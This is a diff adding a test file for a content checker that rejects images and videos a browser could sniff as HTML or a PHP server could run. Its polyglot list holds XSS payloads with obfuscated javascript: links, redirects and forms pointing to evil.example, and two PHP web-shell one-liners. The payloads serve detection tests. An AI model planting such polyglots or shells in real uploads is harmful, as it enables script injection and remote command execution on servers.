@@ -1,0 +1,160 @@
+/**
+ * Which passive files a browser, or a server that runs PHP, could take for a program.
+ *
+ * @module
+ */
+
+import { GIF, JPEG, MP4, PNG } from '@waybill/test-support/samples'
+import { describe, expect, it } from 'vitest'
+import { checkContent } from 'waybill/arrival'
+
+const latin = (text: string) => Buffer.from(text, 'latin1')
+
+/** https://mimesniff.spec.whatwg.org/#identifying-a-resource-with-an-unknown-mime-type, in its order. */
+const SNIFFED_TAGS =
+  '<!DOCTYPE HTML,<HTML,<HEAD,<SCRIPT,<IFRAME,<H1,<DIV,<FONT,<TABLE,<A,<STYLE,<TITLE,<B,<BODY,<BR,<P,<!--'.split(
+    ',',
+  )
+/** The standard's two, and what only Chromium takes: it sniffs without one. */
+const AFTER_A_TAG = [' ', '>', '\x80', 'x', '\n', '/', '\0']
+/** Types that are known by no mark. */
+const MEDIA = 'image/x-own'
+const DOCUMENT = 'application/x-own'
+
+async function isActive(head: Uint8Array, type: string): Promise<boolean> {
+  return (await checkContent(head, type, head.length))?.reason === 'active-content'
+}
+
+const WHITESPACE = ['', '\t', '\n', '\f', '\r', ' ', '\r\n \t']
+
+describe('checkContent', () => {
+  it.each(SNIFFED_TAGS)('knows that browsers sniff %s, Chromium too', async (tag) => {
+    for (const end of AFTER_A_TAG) {
+      for (const space of WHITESPACE) {
+        for (const written of [tag, tag.toLowerCase()]) {
+          const head = latin(`${space}${written}${end}\0\x01 whatever`)
+          expect(await isActive(head, MEDIA)).toBe(true)
+          expect(await isActive(head, DOCUMENT)).toBe(true)
+        }
+      }
+    }
+  })
+
+  it('knows that they sniff <?xml, and markup behind a byte order mark', async () => {
+    expect(await isActive(latin('\n<?xml\0'), DOCUMENT)).toBe(true)
+    expect(await isActive(latin('\xef\xbb\xbf <HTML>\0'), DOCUMENT)).toBe(true)
+  })
+
+  it('leaves alone what only looks like a tag of that list', async () => {
+    for (const text of ['<?xpacket', '< html>', '<1>', '<video>', '<!doctype x>', '<!-']) {
+      expect([text, await isActive(latin(`${text}\0`), DOCUMENT)]).toEqual([text, false])
+    }
+  })
+
+  it('takes no picture, film or sound that begins with any tag', async () => {
+    for (const text of ['<x-y onclick=1>', '<video src=x>', '</p><p>hi', '<?php\n1', '<!x> <b>']) {
+      expect([text, await isActive(latin(text), MEDIA)]).toEqual([text, true])
+    }
+  })
+})
+
+/** Each is a file of its type to a reader that knows no better. */
+const POLYGLOTS: readonly (readonly [string, string, Uint8Array])[] = [
+  ['a GIF with an element that runs', 'image/gif', latin('GIF89a<img src=x onerror=alert(1)>')],
+  [
+    'a GIF with a picture from elsewhere',
+    'image/gif',
+    latin('GIF89a\0<IMG\nSRC=//evil.example/x>\0'),
+  ],
+  ['a GIF with a body that runs', 'image/gif', latin('GIF89a<body onload=alert(1)>')],
+  ['a GIF with any element that runs', 'image/gif', latin('GIF89a\0<b/onmouseover\n=\0alert(1)>')],
+  ['a quoted attribute before it', 'image/gif', latin('GIF89a<x y=">"onfocus=alert(1)>')],
+  [
+    'a GIF that sends its reader elsewhere',
+    'image/gif',
+    latin('GIF89a<meta http-equiv=refresh content="0;url=//evil.example">'),
+  ],
+  ['a GIF with a link that runs', 'image/gif', latin('GIF89a<a href=javascript:alert(1)>x')],
+  ['the same in quotes', 'image/gif', latin('GIF89a<a title="x" href = " javascript:a()">x')],
+  ['the same in codes', 'image/gif', latin('GIF89a<a href="&#106;avascript:alert(1)">x')],
+  ['the same with a tab', 'image/gif', latin('GIF89a<a href="j\tavascript:alert(1)">x')],
+  ['the same with one letter in codes', 'image/gif', latin('GIF89a<a href="j&#97;vascript:a()">x')],
+  ['the same with a named tab', 'image/gif', latin('GIF89a<a href="j&Tab;avascript:a()">x')],
+  [
+    'the same behind control characters',
+    'image/gif',
+    latin('GIF89a<a href="\x01javascript:a()">x'),
+  ],
+  ['a GIF with a button that runs', 'image/gif', latin('GIF89a<b formaction=javascript:a()>x')],
+  ['a GIF with a form', 'image/gif', latin('GIF89a<form action=//evil.example><input name=pin>')],
+  ['a GIF with another base', 'image/gif', latin('GIF89a<base href=//evil.example>')],
+  [
+    'a GIF with a style sheet',
+    'image/gif',
+    latin('GIF89a<LINK\nrel=stylesheet href=//evil.example>'),
+  ],
+  ['a GIF with an imported style sheet', 'image/gif', latin('GIF89a<style>@import "//e.example"')],
+  ['a PNG with a form', 'image/png', Buffer.concat([PNG, latin('<form>')])],
+  [
+    'a JPEG with another base',
+    'image/jpeg',
+    Buffer.concat([JPEG, latin('<base/href=//e.example>')]),
+  ],
+  [
+    'an mp4 with a link that runs',
+    'video/mp4',
+    Buffer.concat([MP4, latin('<a href=JavaScript:a()>')]),
+  ],
+  ['a short PHP tag', 'image/gif', latin('GIF89a<?=`$_GET[0]`?>')],
+  ['a bare PHP tag', 'image/gif', latin('GIF89a<? system($_GET[0]);')],
+  ['an mp4 that begins as a comment', 'video/mp4', latin('<!--ftypmp42--><img src=x onerror=a()>')],
+  [
+    'an mp4 that begins as a tag to Chromium',
+    'video/mp4',
+    latin('<p\x80\x80ftypmp42><meta http-equiv=refresh content="0;url=//evil.example">'),
+  ],
+  ['a PNG with an object', 'image/png', Buffer.concat([PNG, latin('<object data=x>')])],
+  [
+    'a JPEG with a handler far behind a tag',
+    'image/jpeg',
+    Buffer.concat([JPEG, latin('<p>'), Buffer.alloc(50_000), latin(" 'onerror =")]),
+  ],
+]
+
+/** What cameras and programs leave in pictures. */
+const METADATA = latin(
+  '<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">' +
+    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmp:CreatorTool="Tool" ' +
+    'dc:format="image/jpeg" once="1" only = "2"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>' +
+    '<?xml version="1.0"?><NonRealTimeMeta><Device modelName="A"/></NonRealTimeMeta> a < b, online',
+)
+
+describe('checkContent of files that are two things', () => {
+  it.each(POLYGLOTS)('refuses %s', async (_what, type, bytes) => {
+    expect(await checkContent(bytes, type, bytes.length)).toMatchObject({
+      reason: 'active-content',
+    })
+  })
+
+  it.each([
+    ['image/png', PNG],
+    ['image/jpeg', JPEG],
+    ['image/gif', GIF],
+    ['video/mp4', MP4],
+  ])('lets %s have the metadata of cameras', async (type, bytes) => {
+    const file = Buffer.concat([bytes, METADATA])
+    expect(await checkContent(file, type, file.length)).toBeUndefined()
+  })
+
+  it('takes no bytes for markup that are there by chance', async () => {
+    let state = 1
+    const noise = new Uint8Array(64 * 1024)
+    for (let file = 0; file < 400; file += 1) {
+      for (let index = 0; index < noise.length; index += 1) {
+        state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
+        noise[index] = state >>> 24
+      }
+      expect(await isActive(noise, MEDIA)).toBe(false)
+    }
+  })
+})
